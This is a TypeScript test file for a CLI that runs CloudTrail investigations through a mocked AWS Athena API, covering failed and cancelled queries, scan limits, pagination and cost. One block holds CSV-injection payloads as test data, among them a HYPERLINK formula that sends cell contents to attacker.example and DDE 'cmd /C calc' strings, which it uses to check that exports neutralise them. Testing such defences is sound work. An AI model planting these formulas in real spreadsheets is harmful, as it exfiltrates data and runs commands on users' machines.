/**
 * `baseline investigate` against Athena answers moto cannot give (aws-sdk-client-mock): a FAILED and a
 * CANCELLED query, results over several GetQueryResults pages, bytes scanned and their cost, the
 * progress line redrawn on a terminal. Each response has the shape the Athena API Reference documents
 * for its action (linked beside it).
 */
import {
  AthenaClient,
  GetQueryExecutionCommand,
  GetQueryResultsCommand,
  StartQueryExecutionCommand,
  StopQueryExecutionCommand,
  type GetQueryExecutionOutput,
  type GetQueryResultsOutput,
} from '@aws-sdk/client-athena';
import { GetCallerIdentityCommand, STSClient } from '@aws-sdk/client-sts';
import { mockClient } from 'aws-sdk-client-mock';
import type * as Baseline from '../../bin/baseline';
import { createInvestigateCommand } from '../../investigate/cli';
import { queryCostUsd } from '../../investigate/options';
import type { Investigation } from '../../modules/investigations/investigation';
import { ALL_EVENTS, AUDIT_ACCOUNT, EVENTS_BY_NAME, EXAMPLE_CONFIG, NOW, testIo } from './fixtures';

const { main } = require('../../bin/baseline.ts') as typeof Baseline;

const athena = mockClient(AthenaClient);
const sts = mockClient(STSClient);
const ID = 'a1b2c3d4-5678-90ab-cdef-EXAMPLE11111';

beforeEach(() => {
  athena.reset();
  sts.reset();
  // GetCallerIdentity: https://docs.aws.amazon.com/STS/latest/APIReference/API_GetCallerIdentity.html
  sts.on(GetCallerIdentityCommand).resolves({ Account: AUDIT_ACCOUNT, Arn: `arn:aws:sts::${AUDIT_ACCOUNT}:assumed-role/investigator/me`, UserId: 'AROAEXAMPLE:me' });
  // StartQueryExecution: https://docs.aws.amazon.com/athena/latest/APIReference/API_StartQueryExecution.html
  athena.on(StartQueryExecutionCommand).resolves({ QueryExecutionId: ID });
});

/** GetQueryExecution's QueryExecution (https://docs.aws.amazon.com/athena/latest/APIReference/API_GetQueryExecution.html). */
function execution(state: string, scanned: number, status: Record<string, unknown> = {}): GetQueryExecutionOutput {
  return {
    QueryExecution: {
      QueryExecutionId: ID,
      Status: { State: state as 'RUNNING', SubmissionDateTime: new Date('2026-11-20T12:00:00Z'), ...(state === 'RUNNING' ? {} : { CompletionDateTime: new Date('2026-11-20T12:00:07Z') }), ...status },
      // QueryExecutionStatistics: https://docs.aws.amazon.com/athena/latest/APIReference/API_QueryExecutionStatistics.html
      Statistics: { DataScannedInBytes: scanned },
    },
  };
}

async function investigate(argv: readonly string[], tty = false, investigations: readonly Investigation[] = [EVENTS_BY_NAME]) {
  const io = testIo(tty);
  const command = createInvestigateCommand({ investigations, now: () => NOW, credentials: { accessKeyId: 'AKIDEXAMPLE', secretAccessKey: 'x' }, firstPollMs: 1, maxPollMs: 2 });
  const code = await main(['investigate', ...argv], io, [command]);
  return { code, stdout: io.out.join(''), stderr: io.err.join('') };
}

const ARGS = ['events-by-name', '--config', EXAMPLE_CONFIG, '--from', '2026-11-01', '--param', 'event_name=StopLogging', '--param', 'principal=arn:aws:iam::444444444444:role/admin'];

describe('baseline investigate with the Athena API mocked', () => {
  test('a FAILED query is refused (exit 1) with StateChangeReason and AthenaError, and no result is read', async () => {
    athena
      .on(GetQueryExecutionCommand)
      .resolvesOnce(execution('RUNNING', 1024))
      .resolves(
        // QueryExecutionStatus and AthenaError: https://docs.aws.amazon.com/athena/latest/APIReference/API_QueryExecutionStatus.html,
        // https://docs.aws.amazon.com/athena/latest/APIReference/API_AthenaError.html (ErrorCategory 2: user).
        execution('FAILED', 2048, {
          // The texts and the error type are test values, passed through as Athena gives them.
          StateChangeReason: 'the reason Athena gives (test value)',
          AthenaError: { ErrorCategory: 2, ErrorType: 9999, Retryable: false, ErrorMessage: 'the reason Athena gives (test value)' },
        }),
      );
    const r = await investigate(ARGS);
    expect(r.code).toBe(1);
    expect(r.stdout).toBe('');
    expect(r.stderr).toContain(`error: events-by-name: query ${ID} FAILED: the reason Athena gives (test value); error category user; error type 9999\n`);
    expect(r.stderr).toContain(`investigate: query ${ID} RUNNING, 0s, 1.00 KB scanned\n`);
    expect(r.stderr).toContain(`investigate: query ${ID} FAILED, 0s, 2.00 KB scanned\n`);
    expect(athena.commandCalls(GetQueryResultsCommand)).toHaveLength(0);
  });

  test('a query CANCELLED elsewhere (another user), far below the scan limit, is refused with its StateChangeReason alone', async () => {
    athena.on(GetQueryExecutionCommand).resolves(execution('CANCELLED', 2 ** 20, { StateChangeReason: 'cancelled elsewhere (test value)' }));
    const r = await investigate(ARGS);
    expect(r.code).toBe(1);
    expect(r.stderr).toContain(`error: events-by-name: query ${ID} CANCELLED: cancelled elsewhere (test value)\n`);
    expect(r.stderr).not.toContain('bytesScannedCutoffPerQueryMb');
    expect(athena.commandCalls(StopQueryExecutionCommand)).toHaveLength(0);
  });

  describe("a query the workgroup's per-query scan limit cancelled names what to change", () => {
    // The per-query control cancels a query that scans more than BytesScannedCutoffPerQuery (Athena User
    // Guide, "Configure per-query and per-workgroup data usage controls":
    // https://docs.aws.amazon.com/athena/latest/ug/workgroups-setting-control-limits-cloudwatch.html).
    // The example config's investigations.bytesScannedCutoffPerQueryMb is the default, 2,000,000.
    const CUTOFF = 2_000_000 * 1_000_000;
    const advice = (scanned: string, account = '') =>
      `the workgroup's per-query scan limit (BytesScannedCutoffPerQuery ${CUTOFF} bytes) cancelled it after ${scanned} scanned: narrow --from/--to${account}, or raise investigations.bytesScannedCutoffPerQueryMb\n`;

    test("by Athena's reason, whatever was scanned", async () => {
      // The reason's wording is as users report it (docs/cli.md, "Unverified"), not documented.
      athena.on(GetQueryExecutionCommand).resolves(execution('CANCELLED', 2 ** 20, { StateChangeReason: 'Bytes scanned limit was exceeded' }));
      const r = await investigate(ARGS);
      expect(r.code).toBe(1);
      expect(r.stderr).toContain(`error: events-by-name: query ${ID} CANCELLED: Bytes scanned limit was exceeded; ${advice('1.00 MB')}`);
    });

    test('by the bytes scanned, at or near the cutoff, whatever the reason says; not far below it', async () => {
      athena.on(GetQueryExecutionCommand).resolves(execution('CANCELLED', CUTOFF, { StateChangeReason: 'another wording (test value)' }));
      const at = await investigate(ARGS);
      expect(at.code).toBe(1);
      expect(at.stderr).toContain(`error: events-by-name: query ${ID} CANCELLED: another wording (test value); ${advice('1.82 TB')}`);
      athena.on(GetQueryExecutionCommand).resolves(execution('CANCELLED', CUTOFF * 0.9, { StateChangeReason: 'another wording (test value)' }));
      expect((await investigate(ARGS)).stderr).toContain(advice('1.64 TB'));
      athena.on(GetQueryExecutionCommand).resolves(execution('CANCELLED', CUTOFF * 0.5, { StateChangeReason: 'another wording (test value)' }));
      const below = await investigate(ARGS);
      expect(below.code).toBe(1);
      expect(below.stderr).toContain(`error: events-by-name: query ${ID} CANCELLED: another wording (test value)\n`);
      expect(below.stderr).not.toContain('scan limit');
    });

    test('another workgroup (--workgroup): its cutoff is unknown, so only the reason tells', async () => {
      athena.on(GetQueryExecutionCommand).resolves(execution('CANCELLED', CUTOFF, { StateChangeReason: 'another wording (test value)' }));
      expect((await investigate([...ARGS, '--workgroup', 'other'])).stderr).not.toContain('scan limit');
      athena.on(GetQueryExecutionCommand).resolves(execution('CANCELLED', CUTOFF, { StateChangeReason: 'Bytes scanned limit was exceeded' }));
      expect((await investigate([...ARGS, '--workgroup', 'other'])).stderr).toContain(
        `Bytes scanned limit was exceeded; the workgroup's per-query scan limit (BytesScannedCutoffPerQuery) cancelled it after 1.82 TB scanned: narrow --from/--to, or raise investigations.bytesScannedCutoffPerQueryMb\n`,
      );
    });

    test('an investigation with an account parameter (a partition key) is told it may narrow by account', async () => {
      const byAccount: Investigation = {
        ...ALL_EVENTS,
        name: 'events-of-account',
        parameters: [{ name: 'account', description: 'The account', example: '444444444444', pattern: /^\d{12}$/ }],
        sql: (c) => `SELECT eventtime FROM ${c.organizationTrailTable} WHERE day BETWEEN {from_day} AND {to_day} AND account = {account}`,
      };
      athena.on(GetQueryExecutionCommand).resolves(execution('CANCELLED', CUTOFF, { StateChangeReason: 'Bytes scanned limit was exceeded' }));
      const r = await investigate(['events-of-account', '--config', EXAMPLE_CONFIG, '--from', '2026-11-01', '--param', 'account=444444444444'], false, [byAccount]);
      expect(r.code).toBe(1);
      expect(r.stderr).toContain(advice('1.82 TB', ' (or --param account=...)'));
    });
  });

  test('results over several pages: the header row only on the first, NULLs kept, the bytes and cost reported', async () => {
    const scanned = 3 * 2 ** 30 + 5; // 3 GB and 5 bytes: billed as 3 GB + 1 MB
    athena.on(GetQueryExecutionCommand).resolvesOnce(execution('QUEUED', 0)).resolvesOnce(execution('RUNNING', 2 ** 30)).resolves(execution('SUCCEEDED', scanned));
    // GetQueryResults: https://docs.aws.amazon.com/athena/latest/APIReference/API_GetQueryResults.html (NextToken
    // to go on; ResultSet.ResultSetMetadata.ColumnInfo names the columns).
    const metadata = { ColumnInfo: [{ Name: 'eventtime', Type: 'varchar' }, { Name: 'errorcode', Type: 'varchar' }] };
    const page = (rows: (string | null)[][], token?: string): GetQueryResultsOutput => ({
      ResultSet: { ResultSetMetadata: metadata, Rows: rows.map((row) => ({ Data: row.map((v) => (v === null ? {} : { VarCharValue: v })) })) },
      ...(token ? { NextToken: token } : {}),
    });
    athena
      .on(GetQueryResultsCommand, { QueryExecutionId: ID, NextToken: undefined })
      .resolves(page([['eventtime', 'errorcode'], ['2026-11-02T00:00:00Z', null]], 'page-2'))
      .on(GetQueryResultsCommand, { QueryExecutionId: ID, NextToken: 'page-2' })
      .resolves(page([['2026-11-03T00:00:00Z', 'AccessDenied'], ['eventtime', 'errorcode']], 'page-3'))
      .on(GetQueryResultsCommand, { QueryExecutionId: ID, NextToken: 'page-3' })
      .resolves(page([['2026-11-04T00:00:00Z', '']]));
    const r = await investigate([...ARGS, '--format', 'json', '--price-per-tb', '6.25']);
    expect(r.code).toBe(0);
    const run = JSON.parse(r.stdout);
    expect(run.columns).toEqual(['eventtime', 'errorcode']);
    // A later row equal to the header is data (only the first page's first row is the header).
    expect(run.rows).toEqual([
      ['2026-11-02T00:00:00Z', null],
      ['2026-11-03T00:00:00Z', 'AccessDenied'],
      ['eventtime', 'errorcode'],
      ['2026-11-04T00:00:00Z', ''],
    ]);
    expect(athena.commandCalls(GetQueryResultsCommand).map((c) => c.args[0].input)).toEqual([
      { QueryExecutionId: ID, MaxResults: 1000, NextToken: undefined },
      { QueryExecutionId: ID, MaxResults: 1000, NextToken: 'page-2' },
      { QueryExecutionId: ID, MaxResults: 1000, NextToken: 'page-3' },
    ]);
    expect(run.dataScannedBytes).toBe(scanned);
    expect(run.costUsd).toBe(queryCostUsd(scanned, 6.25));
    expect(run.costUsd).toBe(Number((((3 * 2 ** 30 + 2 ** 20) / 2 ** 40) * 6.25).toFixed(8)));
    expect(run.submittedAt).toBe('2026-11-20T12:00:00Z');
    expect(run.completedAt).toBe('2026-11-20T12:00:07Z');
    expect(r.stderr).toContain(`investigate: events-by-name: 4 rows; 3.00 GB scanned, $${run.costUsd.toFixed(6)} at $6.25/TB`);
  });

  test('on a terminal the progress is one line, redrawn, ended by a newline', async () => {
    athena.on(GetQueryExecutionCommand).resolvesOnce(execution('RUNNING', 0)).resolves(execution('SUCCEEDED', 0));
    athena.on(GetQueryResultsCommand).resolves({ ResultSet: { ResultSetMetadata: { ColumnInfo: [{ Name: 'n', Type: 'varchar' }] }, Rows: [{ Data: [{ VarCharValue: 'n' }] }] } });
    const r = await investigate(ARGS, true);
    expect(r.code).toBe(0);
    expect(r.stderr).toContain(`\r\x1b[Kinvestigate: query ${ID} RUNNING, 0s, 0 B scanned\r\x1b[Kinvestigate: query ${ID} SUCCEEDED, 0s, 0 B scanned\ninvestigate: events-by-name: 0 rows`);
    expect(r.stdout).toBe('n\r\n');
  });
});

describe('cells a spreadsheet would run as formulas (OWASP, "CSV Injection": https://owasp.org/www-community/attacks/CSV_Injection)', () => {
  // CloudTrail values the caller chooses (userAgent, requestParameters, errorMessage), starting with
  // = + - @, tab or CR; beside them values that start otherwise, and NULL.
  const hostile = ['=HYPERLINK("https://attacker.example/?"&A1,"open")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\tcmd', '\r=1+1'];
  const plain = ['aws-cli/2.15.0', "it's 1-2 = 3", null];
  const cells = [...hostile, ...plain];

  beforeEach(() => {
    athena.on(GetQueryExecutionCommand).resolves(execution('SUCCEEDED', 0));
    // GetQueryResults: https://docs.aws.amazon.com/athena/latest/APIReference/API_GetQueryResults.html
    athena.on(GetQueryResultsCommand).resolves({
      ResultSet: {
        ResultSetMetadata: { ColumnInfo: [{ Name: 'useragent', Type: 'varchar' }] },
        Rows: [{ Data: [{ VarCharValue: 'useragent' }] }, ...cells.map((v) => ({ Data: [v === null ? {} : { VarCharValue: v }] }))],
      },
    });
  });

  test("csv: each is prefixed with ', then quoted as RFC 4180 asks; the others are as Athena gave them", async () => {
    const r = await investigate(ARGS);
    expect(r.code).toBe(0);
    expect(r.stdout).toBe(
      [
        'useragent',
        `"'=HYPERLINK(""https://attacker.example/?""&A1,""open"")"`,
        "'+1+cmd|' /C calc'!A0",
        "'-2+3",
        "'@SUM(1+1)*cmd|' /C calc'!A0",
        "'\tcmd",
        `"'\r=1+1"`,
        'aws-cli/2.15.0',
        "it's 1-2 = 3",
        '',
      ]
        .map((line) => `${line}\r\n`)
        .join(''),
    );
  });

  test('json: every value exactly as Athena gave it', async () => {
    const r = await investigate([...ARGS, '--format', 'json']);
    expect(r.code).toBe(0);
    expect(JSON.parse(r.stdout).rows).toEqual(cells.map((v) => [v]));
  });
});

describe('the last day partition read', () => {
  test("is on stderr after the run and in the JSON run (the window's to_day: the day after its last day)", async () => {
    athena.on(GetQueryExecutionCommand).resolves(execution('SUCCEEDED', 0));
    athena.on(GetQueryResultsCommand).resolves({ ResultSet: { ResultSetMetadata: { ColumnInfo: [{ Name: 'n', Type: 'varchar' }] }, Rows: [] } });
    // --to 2026-11-10 (exclusive): the window's last day is 11-09, so 11-10 is the last day read.
    const r = await investigate([...ARGS, '--to', '2026-11-10', '--format', 'json']);
    expect(r.code).toBe(0);
    expect(r.stderr).toContain('investigate: last day partition read: 2026/11/10 (UTC delivery day); records in log files delivered after it are not in the result\n');
    expect(JSON.parse(r.stdout).lastDayPartition).toBe('2026/11/10');
    // Without --to the window ends now (2026-11-20T12:00Z): tomorrow's partition is read too.
    expect((await investigate(ARGS)).stderr).toContain('last day partition read: 2026/11/21 ');
  });
});

describe('the cost of a query', () => {
  test('rounded up to a whole MB, at least 10 MB (Athena pricing page, investigate/options.ts)', () => {
    const perMb = 5 / 2 ** 20;
    expect(queryCostUsd(0)).toBe(Number((10 * perMb).toFixed(8)));
    expect(queryCostUsd(10 * 2 ** 20 + 1)).toBe(Number((11 * perMb).toFixed(8)));
    expect(queryCostUsd(2 ** 40)).toBe(5);
  });
});
